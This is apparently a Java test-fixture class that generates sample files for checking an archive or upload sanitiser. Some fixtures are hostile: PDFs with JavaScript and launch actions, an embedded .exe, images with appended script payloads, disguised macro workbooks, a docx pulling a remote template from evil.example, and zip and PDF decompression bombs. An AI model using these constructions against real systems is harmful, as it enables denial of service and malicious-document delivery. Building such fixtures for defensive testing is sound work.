package org.cunyi.archive;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/** Files as people bring them, and as they should not. */
public final class Papers {

    private Papers() {
    }

    /** Something that writes a file. */
    private interface Writing {
        void to(ByteArrayOutputStream out) throws Exception;
    }

    private static byte[] written(Writing writing) {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            writing.to(out);
            return out.toByteArray();
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    public static byte[] pdf() {
        return written(out -> {
            try (PDDocument document = new PDDocument()) {
                document.addPage(new PDPage());
                document.save(out);
            }
        });
    }

    static byte[] pdfWithScript() {
        return written(out -> {
            try (PDDocument document = new PDDocument()) {
                document.addPage(new PDPage());
                document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('x')"));
                document.save(out);
            }
        });
    }

    static byte[] pdfThatLaunches() {
        return written(out -> {
            try (PDDocument document = new PDDocument()) {
                document.addPage(new PDPage());
                document.getDocumentCatalog().setOpenAction(new PDActionLaunch());
                document.save(out);
            }
        });
    }

    static byte[] pdfWithFile() {
        return written(out -> {
            try (PDDocument document = new PDDocument()) {
                document.addPage(new PDPage());
                PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
                PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
                files.setNames(java.util.Map.of("a.exe", new PDComplexFileSpecification()));
                names.setEmbeddedFiles(files);
                document.getDocumentCatalog().setNames(names);
                document.save(out);
            }
        });
    }

    static byte[] lockedPdf() {
        return written(out -> {
            try (PDDocument document = new PDDocument()) {
                document.addPage(new PDPage());
                document.protect(new StandardProtectionPolicy("owner", "", new AccessPermission()));
                document.save(out);
            }
        });
    }

    static BufferedImage picture(int width, int height) {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = image.createGraphics();
        for (int i = 0; i < 20; i++) {
            g.setColor(new Color(i * 37 % 256, i * 91 % 256, i * 53 % 256));
            g.fillOval(i * 13 % width, i * 29 % height, width / 4, height / 4);
        }
        g.dispose();
        return image;
    }

    public static byte[] jpeg() {
        return written(out -> ImageIO.write(picture(320, 240), "jpeg", out));
    }

    public static byte[] png() {
        return written(out -> ImageIO.write(picture(320, 240), "png", out));
    }

    /** As a telephone takes it: upright (orientation 6), with place, a comment, and more behind the end. */
    public static byte[] photoWithPlace() {
        byte[] plain = jpeg();
        byte[] exif = exif();
        byte[] xmp = "http://ns.adobe.com/xap/1.0/\0<exif:GPSLatitude>34,45.6N</exif:GPSLatitude>".getBytes(StandardCharsets.ISO_8859_1);
        return written(out -> {
            out.write(plain, 0, 2);
            segment(out, 0xE1, exif);
            segment(out, 0xE1, xmp);
            segment(out, 0xFE, "SECRET-COMMENT".getBytes(StandardCharsets.ISO_8859_1));
            out.write(plain, 2, plain.length - 2);
            out.write("PK\u0003\u0004<script>alert(1)</script>".getBytes(StandardCharsets.ISO_8859_1));
        });
    }

    private static void segment(ByteArrayOutputStream out, int marker, byte[] body) {
        out.write(0xFF);
        out.write(marker);
        out.write((body.length + 2) >> 8);
        out.write(body.length + 2);
        out.writeBytes(body);
    }

    /** Little endian: orientation 6, camera "GPS-PHONE-7", a GPS directory with N 34° 45'. */
    private static byte[] exif() {
        ByteBuffer b = ByteBuffer.allocate(160).order(java.nio.ByteOrder.LITTLE_ENDIAN);
        b.put("Exif\0\0II*\0".getBytes(StandardCharsets.ISO_8859_1)).putInt(8);
        b.putShort((short) 3);
        b.putShort((short) 0x0110).putShort((short) 2).putInt(12).putInt(60);
        b.putShort((short) 0x0112).putShort((short) 3).putInt(1).putInt(6);
        b.putShort((short) 0x8825).putShort((short) 4).putInt(1).putInt(80);
        b.putInt(0);
        b.position(6 + 60).put("GPS-PHONE-7\0".getBytes(StandardCharsets.ISO_8859_1));
        b.position(6 + 80).putShort((short) 2);
        b.putShort((short) 1).putShort((short) 2).putInt(2).put(new byte[] {'N', 0, 0, 0});
        b.putShort((short) 2).putShort((short) 5).putInt(3).putInt(120);
        b.putInt(0);
        b.position(6 + 120).putInt(34).putInt(1).putInt(45).putInt(1).putInt(0).putInt(1);
        return b.array();
    }

    /** A real picture with a text, a time and a page of script behind its end. */
    static byte[] pngWithTexts() {
        byte[] plain = png();
        return written(out -> {
            out.write(plain, 0, 33);
            chunk(out, "tEXt", "Comment\0GPS 34.76,113.65".getBytes(StandardCharsets.ISO_8859_1));
            chunk(out, "eXIf", exif());
            out.write(plain, 33, plain.length - 33);
            out.write("<html><script>alert(1)</script>".getBytes(StandardCharsets.ISO_8859_1));
        });
    }

    private static void chunk(ByteArrayOutputStream out, String type, byte[] body) {
        byte[] name = type.getBytes(StandardCharsets.ISO_8859_1);
        CRC32 crc = new CRC32();
        crc.update(name);
        crc.update(body);
        out.writeBytes(ByteBuffer.allocate(4).putInt(body.length).array());
        out.writeBytes(name);
        out.writeBytes(body);
        out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    /** Says that it is 60000 pixels wide and high. */
    static byte[] monstrousPng() {
        byte[] png = png();
        ByteBuffer.wrap(png).putInt(16, 60_000).putInt(20, 60_000);
        CRC32 crc = new CRC32();
        crc.update(png, 12, 17);
        ByteBuffer.wrap(png).putInt(29, (int) crc.getValue());
        return png;
    }

    static byte[] monstrousJpeg() {
        byte[] jpeg = jpeg();
        for (int i = 0; i < jpeg.length - 9; i++) {
            if ((jpeg[i] & 0xFF) == 0xFF && (jpeg[i + 1] & 0xFF) == 0xC0) {
                ByteBuffer.wrap(jpeg).putShort(i + 5, (short) 65_000).putShort(i + 7, (short) 65_000);
                return jpeg;
            }
        }
        throw new IllegalStateException();
    }

    public static byte[] docx() {
        return written(out -> {
            try (XWPFDocument document = new XWPFDocument()) {
                document.createParagraph().createRun().setText("会议记录");
                document.write(out);
            }
        });
    }

    public static byte[] xlsx() {
        return written(out -> {
            try (XSSFWorkbook book = new XSSFWorkbook()) {
                book.createSheet("签到").createRow(0).createCell(0).setCellValue("张三");
                book.write(out);
            }
        });
    }

    /** A workbook with macros under the name of one without. */
    static byte[] xlsm() {
        return written(out -> {
            try (XSSFWorkbook book = new XSSFWorkbook()) {
                book.createSheet("a");
                book.setVBAProject(new java.io.ByteArrayInputStream(new byte[] {1, 2, 3}));
                book.write(out);
            }
        });
    }

    /** A document with a macro project slipped in, its main part still called an ordinary one. */
    static byte[] docxWithMacro() {
        return written(out -> {
            try (XWPFDocument document = new XWPFDocument()) {
                OPCPackage office = document.getPackage();
                office.createPart(PackagingURIHelper.createPartName("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject")
                        .getOutputStream().write(1);
                document.write(out);
            }
        });
    }

    static byte[] docxWithForeignTemplate() {
        return written(out -> {
            try (XWPFDocument document = new XWPFDocument()) {
                document.getPackagePart().addExternalRelationship("http://evil.example/x.dotm",
                        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate");
                document.write(out);
            }
        });
    }

    static byte[] zip(String name, byte[] content) {
        return written(out -> {
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                zip.putNextEntry(new ZipEntry(name));
                zip.write(content);
            }
        });
    }

    /** 400 MB of nothing in 400 KB. */
    static byte[] zipBomb() {
        return written(out -> {
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
                byte[] piece = new byte[1024 * 1024];
                for (int i = 0; i < 400; i++) {
                    zip.write(piece);
                }
            }
        });
    }

    /** A stream of a PDF that unfolds to 200 MB. */
    static byte[] pdfBomb() {
        byte[] zeros = new byte[1024 * 1024];
        byte[] packed = written(out -> {
            try (var deflated = new java.util.zip.DeflaterOutputStream(out)) {
                for (int i = 0; i < 200; i++) {
                    deflated.write(zeros);
                }
            }
        });
        return written(out -> {
            out.write(("%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length " + packed.length + ">>\nstream\n")
                    .getBytes(StandardCharsets.ISO_8859_1));
            out.write(packed);
            out.write("\nendstream\nendobj\ntrailer<</Root 2 0 R>>\n%%EOF\n".getBytes(StandardCharsets.ISO_8859_1));
        });
    }

    static byte[] joined(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    static BufferedImage read(byte[] image) throws IOException {
        return ImageIO.read(new java.io.ByteArrayInputStream(image));
    }
}
